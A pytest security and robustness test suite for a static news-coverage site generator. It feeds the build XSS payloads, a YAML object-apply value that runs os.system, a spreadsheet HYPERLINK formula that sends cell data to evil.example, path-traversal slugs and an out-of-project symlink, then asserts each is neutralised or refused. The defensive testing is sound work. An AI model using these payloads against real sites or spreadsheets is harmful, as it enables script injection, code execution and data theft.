"""Hostile, broken and huge input: clear errors or safe output, never a broken or unsafe site."""

from __future__ import annotations

import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from coverage_site.build import build
from coverage_site.config import load_config
from coverage_site.errors import ContentError
from tests.conftest import copy_seeds, make_project

XSS = [
    '<script>alert(1)</script>',
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<svg onload=alert(1)>',
    '"><script>alert(1)</script>',
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "[link](javascript:alert(1)) and ![img](data:image/svg+xml,<svg/onload=alert(1)>)",
    '<<SCRIPT>alert("x");//<</SCRIPT>',
    '“quoted <script>alert(2)</script> words,” Jane Doe said.',
]


class Scan(HTMLParser):
    def __init__(self):
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        ours = re.fullmatch(r"(?:(?:\.\./)*|/(?:[\w-]+/)*)static/(?:app|search)\.js", a.get("src") or "")
        if tag == "script" and not ours and a.get("type") != "application/ld+json":
            self.bad.append(f"script {attrs}")
        if tag in ("iframe", "object", "embed"):
            self.bad.append(tag)
        for k, v in attrs:
            if k.startswith("on"):
                self.bad.append(f"{tag} {k}")
            if k in ("href", "src", "action", "formaction") and v and v.strip().lower().startswith(("javascript:", "data:", "vbscript:")):
                self.bad.append(f"{tag} {k}={v}")


def unsafe(site: Path) -> list[str]:
    bad = []
    for page in site.rglob("*.html"):
        s = Scan()
        s.feed(page.read_text(encoding="utf-8"))
        bad += [f"{page.name}: {b}" for b in s.bad]
    return bad


def test_xss_vectors_everywhere_come_out_inert(tmp_path):
    articles = {}
    for n, vector in enumerate(XSS):
        title = vector.replace('"', "'").replace("\n", " ")
        articles[f"x{n}.md"] = (f'---\ntitle: "{title}"\nsource: "Outlet {n} {title}"\nauthor: "{title}"\n---\n'
                                f"More than 12 people said {vector} on Friday.\n\n{vector}\n")
        articles[f"t{n}.txt"] = f"{vector}\n\nAbout 40 workers said {vector} in Seoul on Monday.\n"
    root = make_project(tmp_path, articles)
    pages = root / "content" / "pages"
    pages.mkdir()
    (pages / "about.md").write_text("# About\n\n" + "\n\n".join(XSS) + "\n", encoding="utf-8")
    out = tmp_path / "site"
    build(load_config(root, out))
    assert unsafe(out) == []
    # The words are still there for the reader, as text.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in (out / "articles" / "t0.html").read_text(encoding="utf-8")


def test_javascript_url_in_front_matter_is_refused(tmp_path):
    root = make_project(tmp_path, {"a.md": "---\nurl: javascript:alert(1)\n---\nText.\n"})
    with pytest.raises(ContentError) as exc:
        build(load_config(root, tmp_path / "site"))
    assert str(exc.value.problems[0]).startswith("content/articles/a.md:2:6: url must start with http")


@pytest.mark.parametrize("front,where", [
    ("country: NO\n", "content/articles/a.md:2:10: warning: unknown key 'country'"),
    ("published: 2024-13-45\n", "content/articles/a.md:2:12: published: cannot read value"),
    ("title: !!python/object/apply:os.system ['touch /tmp/pwned']\n", "content/articles/a.md:2:8: title: cannot read value"),
    ("title: [unclosed\n", "content/articles/a.md:2:8: invalid YAML"),
])
def test_yaml_problems_point_at_the_line(tmp_path, front, where):
    root = make_project(tmp_path, {"a.md": f"---\n{front}---\nText.\n"})
    try:
        result = build(load_config(root, tmp_path / "site"))
        messages = [str(p) for p in result.warnings]
    except ContentError as exc:
        messages = [str(p) for p in exc.problems]
    assert any(m.startswith(where) for m in messages), messages
    assert not Path("/tmp/pwned").exists()


def test_bad_bytes_binary_and_oversize_files(tmp_path):
    root = make_project(tmp_path, {})
    arts = root / "content" / "articles"
    (arts / "latin1.md").write_bytes("Title line\nCaf\xe9 crème\n".encode("latin-1"))
    (arts / "binary.txt").write_bytes(b"GIF89a\x00\x01\x02")
    (arts / "huge.txt").write_bytes(b"word " * (3 * 1024 * 1024 // 5))
    with pytest.raises(ContentError) as exc:
        build(load_config(root, tmp_path / "site"))
    messages = "\n".join(str(p) for p in exc.value.problems)
    assert "content/articles/latin1.md:2:4: not valid UTF-8" in messages
    assert "content/articles/binary.txt:1: file contains NUL bytes" in messages
    assert "content/articles/huge.txt: file is" in messages and "limit" in messages


def test_pathological_markdown_does_not_stall_the_build(tmp_path):
    root = make_project(tmp_path, {"brackets.md": "---\ntitle: B\n---\n" + "[" * 8000 + "\n",
                                   "openers.md": "---\ntitle: O\n---\n" + "[a](" * 6000 + "\n"})
    result = build(load_config(root, tmp_path / "site"))
    assert any("read as plain text" in str(w) for w in result.warnings)
    assert (tmp_path / "site" / "articles" / "brackets.html").is_file()


def test_story_and_page_names_cannot_escape_or_collide(tmp_path):
    root = make_project(tmp_path, {"a.md": "---\nstory: ../../etc\n---\nText.\n"})
    (root / "content" / "pages").mkdir()
    (root / "content" / "pages" / "index.md").write_text("# I replace your home page\n")
    with pytest.raises(ContentError) as exc:
        build(load_config(root, tmp_path / "site"))
    messages = "\n".join(str(p) for p in exc.value.problems)
    assert "story must be a slug" in messages and "would replace the site's own index.html" in messages


def test_a_page_may_take_no_name_the_site_uses(tmp_path):
    """Every top-level name of the site's URL registry is refused with the page's path: `search.md` was
    once silently replaced by the search page."""
    from coverage_site.site.plan import RESERVED, URLS

    assert {"search", "index", "404", "feed", "conflicts", "sitemap", "facets", "sources", "data"} <= RESERVED.keys()
    assert all(p.split("/")[0].rsplit(".", 1)[0] in RESERVED for k, p in URLS.items() if k != "page")
    root = make_project(tmp_path, {"a.md": "Text.\n"})
    (root / "content" / "pages").mkdir()
    for name in RESERVED:
        (root / "content" / "pages" / f"{name}.md").write_text(f"# {name}\n")
    with pytest.raises(ContentError) as exc:
        build(load_config(root, tmp_path / "site"))
    messages = {p.path: p.message for p in exc.value.problems}
    assert messages["content/pages/search.md"] == "a page named 'search' would replace the site's own search.html; rename it"
    assert "the site's own folder data/" in messages["content/pages/data.md"]
    assert len(messages) == len(RESERVED)
    assert not (tmp_path / "site").exists()


def test_symlink_out_of_the_project_is_refused(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("Secret text about 300 people.\n")
    root = make_project(tmp_path, {"ok.md": "Fine text.\n"})
    os.symlink(secret, root / "content" / "articles" / "leak.txt")
    with pytest.raises(ContentError) as exc:
        build(load_config(root, tmp_path / "site"))
    assert "content/articles/leak.txt: symlink points outside the project" in str(exc.value)


def test_keep_going_skips_broken_articles_and_says_so(tmp_path):
    root = make_project(tmp_path, {"good.md": "---\ntitle: Good\n---\nAbout 40 people came on Monday.\n",
                                   "bad.md": "---\npublished: yesterday\n---\nText.\n"})
    out = tmp_path / "site"
    with pytest.raises(ContentError):
        build(load_config(root, out))
    result = build(load_config(root, out, keep_going=True))
    assert result.articles == 1
    assert any(str(w).startswith("content/articles/bad.md:2:") and "skipped" in str(w) for w in result.warnings)


STAGES = [
    ("coverage_site.read.read_articles", "read"),
    ("coverage_site.claims.extract_claims", "extract"),
    ("coverage_site.align.stories.update", "cluster"),
    ("coverage_site.align.align_story", "align"),
    ("coverage_site.site.plan.plan_story", "plan"),
    ("coverage_site.site.plan.plan_site", "plan"),
    ("coverage_site.site.render.render", "render"),
    ("coverage_site.write._swap", "swap"),
    ("coverage_site.write._permissions", "write"),
]


@pytest.mark.parametrize("target,stage", STAGES)
def test_a_failure_at_any_stage_leaves_the_old_site_untouched(tmp_path, monkeypatch, target, stage):
    root = copy_seeds(tmp_path / "p")
    out = tmp_path / "out"
    build(load_config(root, out))
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}

    def boom(*args, **kwargs):
        raise RuntimeError(f"injected failure in {stage}")

    module, name = target.rsplit(".", 1)
    monkeypatch.setattr(__import__(module, fromlist=[name]), name, boom)
    with pytest.raises(RuntimeError, match=stage):
        build(load_config(root, out, clean=True))  # no cache: every stage runs
    after = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    assert after == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "p"]  # no temporary folder left behind


def test_a_broken_file_among_many_read_in_parallel_is_reported_with_its_line(tmp_path):
    articles = {f"a{n:02d}.md": f"---\ntitle: Report {n}\n---\nAbout {n + 10} people came on Monday.\n" for n in range(30)}
    articles["a07.md"] = "---\npublished: yesterday\n---\nText.\n"
    root = make_project(tmp_path, articles)
    with pytest.raises(ContentError) as exc:
        build(load_config(root, tmp_path / "site", jobs=2))
    assert [str(p).split(" ")[0] for p in exc.value.problems] == ["content/articles/a07.md:2:12:"]


# --- Issue #17: outputs that stay valid and safe, cost bounded by input size ---

def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    import csv

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    root = make_project(tmp_path, {
        "a.md": f"---\ntitle: A\nsource: '{formula}'\n---\nMore than 300 workers were detained on Friday.\n",
        "b.md": "---\ntitle: B\nsource: '@SUM(1+1)'\n---\nAbout 450 workers were detained on Friday.\n",
        "c.md": "---\ntitle: C\nsource: '-2+3'\n---\nSome 300 workers were detained on Friday.\n",
    })
    out = tmp_path / "site"
    build(load_config(root, out))
    cells = [cell for f in out.rglob("*.csv") for row in csv.reader(f.open(encoding="utf-8")) for cell in row]
    assert "'" + formula in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_feeds_and_sitemap_stay_well_formed_xml_whatever_the_characters(tmp_path):
    from xml.etree import ElementTree

    bad = "\x1b\x0b\ufffe\x7f"
    root = make_project(tmp_path, {
        "a.md": f'---\ntitle: "Esc{bad} title"\nsource: "Wire\\x1b\\x0b\\ufffe"\nauthor: "A\\x0c"\n---\n'
                f"More than 300 workers{bad} were detained on Friday.\n",
        "b.txt": f"Second{bad} headline\n\nAbout 450 workers{bad} were detained in Georgia on Friday.\n",
    })
    (root / "coverage-site.yaml").write_text('title: "Desk\\x1b"\ndescription: "Raw\\x0b"\nsite_url: https://example.org/\n')
    out = tmp_path / "site"
    build(load_config(root, out))
    for name in ("feed.xml", "conflicts.xml", "sitemap.xml"):
        ElementTree.parse(out / name)  # raises on a character XML forbids
    assert "\x1b" not in (out / "articles" / "b.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("url", ["javascript:alert(1)", "ftp://example.org/", "example.org"])
def test_site_url_must_be_http(tmp_path, url):
    root = make_project(tmp_path, {"a.md": "Text.\n"})
    (root / "coverage-site.yaml").write_text(f"site_url: '{url}'\n")
    with pytest.raises(ContentError) as exc:
        load_config(root)
    assert str(exc.value).startswith("coverage-site.yaml:1:11: site_url must start with http:// or https://")
    with pytest.raises(ContentError, match="--site-url: must start with http"):
        load_config(make_project(tmp_path / "2", {}), site_url=url)


def test_slug_collisions_never_overwrite_silently(tmp_path):
    root = make_project(tmp_path, {
        "a.md": "---\ntitle: A\nsource: A.B News\n---\nMore than 300 workers came on Friday.\n",
        "b.md": "---\ntitle: B\nsource: A-B News\n---\nAbout 450 workers came on Friday.\n",
        "c.md": "---\ntitle: C\nsource: Новости\n---\nSome 300 workers came on Friday.\n",
        "d.md": "---\ntitle: D\nsource: Известия\n---\nSome 300 workers came on Friday.\n",
    })
    pages = root / "content" / "pages"
    pages.mkdir()
    (pages / "About.md").write_text("# About one\n")
    (pages / "about.md").write_text("# About two\n")
    out = tmp_path / "site"
    with pytest.raises(ContentError) as exc:
        build(load_config(root, out))
    found = "\n".join(str(p) for p in exc.value.problems)
    assert ("content/articles/b.md: outlet 'A-B News' and 'A.B News' (content/articles/a.md) would share the page "
            "sources/a-b-news.html") in found
    assert "content/pages/about.md: this page and content/pages/About.md would both be about.html" in found
    result = build(load_config(root, out, keep_going=True))
    assert result.articles == 3
    sources = sorted(p.name for p in (out / "sources").iterdir())
    assert len(sources) == 3 and "a-b-news.html" in sources  # the two non-Latin outlets keep a page each
    assert "About one" in (out / "about.html").read_text(encoding="utf-8")


SHAPES = ["1 ", "5% ", "“a” ", "on Friday ", "Word ", "More than 300 workers in Seoul. "]


@pytest.mark.parametrize("unit", SHAPES)
def test_output_is_bounded_by_the_input_for_every_hostile_shape(tmp_path, unit):
    # Before #17 a 10 kB article of "1 " took 43 s and its site grew as claims × sentence length (26 MB for 4 kB).
    import json

    root = make_project(tmp_path, {"a.md": "---\ntitle: A\npublished: 2025-09-12\n---\n" + unit * (12_000 // len(unit))})
    out = tmp_path / "site"
    build(load_config(root, out))
    size = sum(p.stat().st_size for p in out.rglob("*") if p.is_file())
    assert size < 8 * 1024 * 1024, f"{size} bytes of site for 12 kB of text"
    stories = json.loads((out / "data" / "coverage.json").read_text(encoding="utf-8"))["stories"]
    claims = {c["id"]: c for s in stories for f in s["facets"] for c in f["claims"]}.values()
    assert len(claims) <= 2000
    assert max((len(c["sentence"]) for c in claims), default=0) <= 1000


def test_claims_beyond_the_limits_are_left_out_with_a_warning(tmp_path, caplog):
    from coverage_site.read.limits import MAX_PER_ARTICLE, MAX_PER_SENTENCE

    root = make_project(tmp_path, {"a.txt": "Numbers\n\n" + "1 " * 400 + ".\n\n" + "2 " * 6000 + "\n"})
    build(load_config(root, tmp_path / "site"))
    # 400 claims in an 800-character sentence, then 6,000 in a run-on cut into 12 sentences of 1,000 characters.
    assert MAX_PER_SENTENCE * 13 == 416
    assert (f"content/articles/a.txt: warning: 6400 claims found; only 416 are compared (at most "
            f"{MAX_PER_SENTENCE} per sentence and {MAX_PER_ARTICLE} per article)") in caplog.text


def test_an_articles_own_contradictions_are_found_in_linear_time():
    # Before #17 every pair of an article's claims of one slot was compared: 5,000 claims, 12.5 million pairs.
    from dataclasses import replace

    from coverage_site.align import findings
    from coverage_site.claims import extract_claims
    from coverage_site.read import parse_article

    article, _ = parse_article("About 300 workers came. " * 2500 + "About 900 workers came.", "a.txt")
    claims = [c for c in extract_claims(article) if "interval" in c.value]
    claims = [replace(c, id=f"c{n}") for n, c in enumerate(claims)]
    calls = []
    original = findings.quantity_interval
    findings.quantity_interval = lambda c: calls.append(c) or original(c)
    try:
        found = findings.find(article, claims, [claims])
    finally:
        findings.quantity_interval = original
    assert len(claims) > 2000 and len(calls) <= 2 * len(claims)
    assert len(found) == 1 and "About 900" in found[0].explanation
